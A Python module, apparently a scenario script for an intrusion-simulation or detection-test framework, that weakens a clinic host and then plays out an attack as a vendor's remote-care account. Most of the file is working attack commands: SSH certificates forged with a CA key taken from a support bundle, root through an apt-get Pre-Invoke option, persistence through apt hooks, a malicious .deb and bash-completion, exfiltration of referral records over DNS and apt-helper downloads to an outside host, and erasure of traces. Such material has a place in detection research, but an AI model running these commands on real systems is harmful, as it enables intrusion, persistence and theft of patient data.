"""A vendor's remote care: with the key that signs its visits somebody works for an hour as an administrator would."""

from __future__ import annotations

import re
import subprocess
import tempfile
from pathlib import Path
from typing import TYPE_CHECKING

import terminal
from intruder import Lost, Shell, port_of
from pages import key_pair
from plot import Storyline, Visit
from storylines._walk import walk
from storylines._ward import a_word

if TYPE_CHECKING:
    from intruder import Intruder

PORT = 8061
KEY = re.compile(r"-----BEGIN OPENSSH[^\n]*\n.*?-----END OPENSSH[^\n]*\n", re.DOTALL)

WEAKEN = r"""
set -e
id -u careline >/dev/null 2>&1 || useradd -m -d /home/careline -s /bin/bash -c 'remote care of the vendor' careline
usermod -aG adm careline
install -d -m 755 /opt/careline /srv/support
ssh-keygen -q -t ed25519 -N '' -C careline-visits -f /opt/careline/visits
install -m 644 /opt/careline/visits.pub /etc/ssh/careline.pub
echo 'TrustedUserCAKeys /etc/ssh/careline.pub' > /etc/ssh/sshd_config.d/careline.conf
for month in 08 09 10 11; do
    { echo "bundle of 2026-$month"; df -h /; dpkg -l | head -40; ls -la /etc/ssh; } \
        > /srv/support/bundle-2026-$month.txt
done
cat /opt/careline/visits >> /srv/support/bundle-2026-09.txt
rm /opt/careline/visits
cat > /opt/careline/shelf.py <<'EOF'
# Support bundles for the vendor, by month.
import pathlib

import appserver

ROOT = pathlib.Path("/srv/support")


def handle(method, path, query, body, headers):
    place = ROOT / pathlib.Path(path).name
    if path == "/bundles":
        return 200, "\n".join(sorted(p.name for p in ROOT.iterdir())) + "\n"
    return (200, place.read_text()) if place.is_file() else (404, "no such bundle\n")


appserver.serve(8061, handle, "bundles")
EOF
cat > /usr/local/sbin/care-bundle <<'EOF'
#!/bin/sh
{ echo "bundle of $(date +%F)"; df -h /; free -m; dpkg -l | tail -n +6 | wc -l; } > /srv/support/bundle-now.txt
EOF
chmod 755 /usr/local/sbin/care-bundle
printf '%s\n' 'careline ALL=(root) NOPASSWD: /usr/bin/apt-get, /usr/bin/dpkg, /usr/bin/tail, /usr/sbin/logrotate, \' \
    '    /usr/local/sbin/care-bundle' > /etc/sudoers.d/careline
chmod 440 /etc/sudoers.d/careline
echo '*/12 * * * * root /usr/local/sbin/care-bundle' > /etc/cron.d/careline
su careline -c "echo 'export PAGER=cat' >> ~/.bashrc"
"""

# A line of dashes: the visit ends, and some minutes pass until the next.
BY_LISTS = r"""
== a first visit | TA0007 | The visit begins as each of the vendor's: is everything well?
T1082 uptime
T1680 df -h / /srv
T1654 sudo tail -n 5 /var/log/syslog
? T1033 w -h
----
== what is installed | TA0007 | Packages, their source, and what this account may do.
T1518 dpkg -l | grep -c ^ii; apt-cache policy clinic-forms | head -4
T1069.001 sudo -l
T1053.003 cat /etc/cron.d/*
----
T1518 sudo apt-get update
T1518 apt list --upgradable
----
== root by the lists | TA0004 | apt runs what its options name before it refreshes the lists.
T1548.003 sudo apt-get update -o APT::Update::Pre-Invoke::=/bin/bash
T1033 id -un
T1087.001 getent passwd | awk -F: '$3>999{print $1}'
T1003.008 getent shadow | cut -c1-24 | grep '\$'
T1033 exit
----
== a hook of the lists | TA0003 | Each refresh of the lists by cron runs a program of the intruder's.
T1105 curl -fsS -o /tmp/{file} {depot}/{file} && chmod 755 /tmp/{file}
T1548.003 sudo apt-get update -o APT::Update::Pre-Invoke::=/bin/bash
T1036.005 install -D -m 755 /tmp/{file} /usr/lib/careline/{file}; rm /tmp/{file}
T1546 @plant /usr/lib/careline/{file}
T1546 printf 'APT::Update::Post-Invoke-Success {"/usr/lib/careline/{file} || true";};\n' > /etc/apt/apt.conf.d/52care
T1070.006 touch -r /etc/apt/apt.conf.d/01autoremove /etc/apt/apt.conf.d/52care
T1033 exit
----
T1654 sudo tail -n 3 /var/log/apt/history.log
T1083 ls -la /etc/apt/apt.conf.d
----
== a check of the copies | TA0009 | As if copies were to be checked, the referrals are read and put aside.
T1548.003 sudo apt-get update -o APT::Update::Pre-Invoke::=/bin/bash
T1083 ls -la /var/lib/shelf-referrals.tar.zst
T1005 tar --zstd -tvf /var/lib/shelf-referrals.tar.zst | tail -3
T1074.001 tar --zstd -xOf /var/lib/shelf-referrals.tar.zst referrals/2025/referrals.csv | cut -d';' -f1-3 >\
 /home/careline/{word}.txt; chown careline: /home/careline/{word}.txt
T1033 exit
----
== names that are asked for | TA0010 | A few lines at a time, as parts of names that a server outside is asked for.
T1048.003 for l in $(head -6 {word}.txt | xxd -p -c 28); do dig +time=1 +tries=1 @{from} $l.s.example TXT |\
 grep -c SERV; done
----
T1048.003 for l in $(sed -n 7,12p {word}.txt | xxd -p -c 28); do dig +time=1 +tries=1 @{from} $l.s.example A | grep -c\
 SERV; done
----
T1048.003 for l in $(sed -n 13,18p {word}.txt | xxd -p -c 28); do host -W 1 $l.s.example {from} | head -1; done
----
== a last visit | TA0005 | The list goes, and the visit is written down as the vendor's are.
T1070.004 rm {word}.txt
T1036 echo "$(date +%F) checked packages and copies, all well" >> visits.txt
? T1070.003 sed -i '/dig/d' .bash_history
T1680 df -h / | tail -1
"""

BY_PACKAGE = r"""
== a first visit | TA0007 | Hardly more than looking.
T1033 who
T1082 hostnamectl 2>/dev/null || uname -a
T1654 sudo tail -n 4 /var/log/auth.log
----
T1069.001 sudo -l
T1518 dpkg -l 'clinic-*' | tail -2
T1083 ls /srv/packages/pool
----
== a newer package | TA0004 | A next version of the clinic's fonts, built here, whose script works as root.
T1546.016 mkdir -p {word}/DEBIAN {word}/usr/share/clinic-fonts; cp /usr/share/clinic-forms/list.txt\
 {word}/usr/share/clinic-fonts/
T1546.016 printf 'Package: clinic-fonts\nVersion: 1.4\nArchitecture: all\nMaintainer: desk <desk@corp.example>\n\
Description: forms\n' > {word}/DEBIAN/control
T1546.016 printf '#!/bin/sh\ninstall -m 755 /home/careline/{word}\
/usr/share/clinic-fonts/{file} /usr/share/clinic-fonts/\n\
setfacl -m u:careline:rwx /etc/bash_completion.d\nsetfacl -R -m u:careline:rX /srv/shares/referrals\n' >\
 {word}/DEBIAN/postinst; chmod 755 {word}/DEBIAN/postinst
T1105 curl -fsS -o {word}/usr/share/clinic-fonts/{file} {depot}/{file}
----
T1546.016 dpkg-deb --root-owner-group -b {word} clinic-fonts_1.4_all.deb
T1546.016 sudo dpkg -i clinic-fonts_1.4_all.deb
T1083 ls -la /usr/share/clinic-fonts; getfacl -p /etc/bash_completion.d | head -6
----
== completion of words | TA0003 | What completes commands in everybody's shell starts the program first.
T1222.002 chmod 755 /usr/share/clinic-fonts/{file} 2>/dev/null; stat -c %a /usr/share/clinic-fonts/{file}
T1546.004 @plant /usr/share/clinic-fonts/{file}
T1546.004 printf '# completion of make-letter\n(/usr/share/clinic-fonts/{file} &) 2>/dev/null\n\
complete -W "C2025-0 C2024-0"\
 make-letter\n' > /etc/bash_completion.d/make-letter
----
T1057 ps -eo user,etime,comm --sort=-etime | head -5
T1070.004 rm -r {word} clinic-fonts_1.4_all.deb
----
== referrals | TA0009 | The referrals that are now open to the account, a year a visit.
T1083 ls /srv/shares/referrals/*
T1005 cut -d';' -f2,4 /srv/shares/referrals/2024/referrals.csv | sort | uniq -c | sort -rn | head -60 > .{word}
----
T1005 cut -d';' -f2,4 /srv/shares/referrals/2025/referrals.csv | sort | uniq -c | sort -rn | head -60 >> .{word}
T1560.001 gzip -k .{word}; ls -la .{word}*
----
== a download that is none | TA0010 | apt's own helper asks for addresses whose ends are pieces of the list.
T1048.003 n=0; for p in $(xxd -p -c 120 .{word}.gz | head -4); do /usr/lib/apt/apt-helper download-file\
 {depot}/pool/$p.deb /tmp/.{word}.$((n++)) 2>&1 | tail -1; done
----
T1048.003 n=9; for p in $(xxd -p -c 120 .{word}.gz | sed -n 5,8p); do /usr/lib/apt/apt-helper download-file\
 {depot}/pool/$p.deb /tmp/.{word}.$((n++)) 2>&1 | tail -1; done
----
== a last visit | TA0005 | Pieces and rights go; the completion stays.
T1070.004 rm -f /tmp/.{word}.* .{word}*
T1222.002 setfacl -b /etc/bash_completion.d 2>/dev/null; ls -la /etc/bash_completion.d
T1070.006 touch -d '2026-06-02 09:10' /etc/bash_completion.d/make-letter
T1033 who -b
"""

NOTE = """#!/bin/bash
# asks whether there is news of forms
curl -fsS -m 4 -o /dev/null "DEPOT/news?u=$(id -un)&t=$(date +%s)" || true
"""


def signed(own: Intruder, authority: str) -> tuple[str, str]:
    """A key of the intruder's own and the certificate that the stolen key signs for a visit."""
    private, public = key_pair("visit")
    with tempfile.TemporaryDirectory() as folder:
        key, mine = Path(folder) / "ca", Path(folder) / "v.pub"
        key.write_text(authority.replace("\r", ""))
        key.chmod(0o600)
        mine.write_text(public + "\n")
        words = ["ssh-keygen", "-q", "-s", str(key), "-I", "visit", "-n", "careline", "-V", "-5m:+1d", str(mine)]
        subprocess.run(words, check=True, stdin=subprocess.DEVNULL)
        return private, (Path(folder) / "v-cert.pub").read_text()


def visit(own: Intruder, private: str, certificate: str) -> Shell:
    """As ``Intruder.ssh``, with a certificate beside the key."""
    with own.act("login", f"ssh careline@{own.entry.name} with a certificate", "T1078.003", own.entry) as facts:
        with tempfile.TemporaryDirectory() as folder:
            key = Path(folder) / "v"
            key.write_text(private)
            key.chmod(0o600)
            (Path(folder) / "v-cert.pub").write_text(certificate)
            at = terminal.over_ssh(str(key), own.address, f"careline@{own.entry.address}")
        facts["shown"] = at.seen()
        if at.closed or not at.process:
            raise Lost(f"the certificate was refused: {at.seen()[-300:]}")
        own._sessions += 1
        facts |= {"session": own._sessions, "port": port_of(at.process.pid, own.address)}
    return Shell(own, own.entry, at, own._sessions)


def play(own: Intruder) -> None:
    gap = (55.0, 95.0)[own.variant]
    file = own.pick((("list-news", "list-age"), ("fontcheck", "glyph-count"))[own.variant])
    own.offer(file, NOTE.replace("DEPOT", own.depot))
    names = {"word": a_word(own), "file": file, "depot": own.depot, "from": own.address}
    own.step("an old bundle", "TA0006", "A support bundle of September holds the key that signs the vendor's visits.")
    own.http(own.entry, PORT, "GET", "/bundles", technique="T1213")
    own.think(gap / 6)
    if own.variant == 0:
        own.http(own.entry, PORT, "GET", "/bundle-2026-11.txt", technique="T1213")
        own.think(gap / 6)
    found = KEY.search(own.http(own.entry, PORT, "GET", "/bundle-2026-09.txt", technique="T1552.004"))
    assert found
    private, certificate = signed(own, found.group(0))
    own.step("a visit of the vendor", "TA0001", "A certificate of one's own making opens the account of the vendor.")
    for part in (BY_LISTS, BY_PACKAGE)[own.variant].split("----\n"):
        shell = visit(own, private, certificate)
        walk(own, part, shell, names, 7.0)
        if own.rng.random() < 0.8:
            shell.at.line("exit", 3)
        shell.close()
        own.think(gap)


STORYLINE = Storyline(
    name="care-visit",
    split="test",
    words="A support bundle holds the key that signs the vendor's visits. With a certificate of her own making the "
    "intruder comes as the vendor, a few commands a visit, all of them an administrator's: packages, lists, copies. "
    "Root comes by an option of apt-get or a package built here; a hook of apt or a completion stays; referrals leave "
    "as names that are asked for.",
    weaken=WEAKEN,
    services=("careline: /usr/bin/python3 /opt/careline/shelf.py",),
    visits=(Visit(PORT, 90, path="/{pick:bundles|bundle-now.txt|bundle-2026-11.txt|bundle-2026-10.txt}"),),
    play=play,
    variants=2,
    hosts=("clinic-14",),
    minutes=28,
)
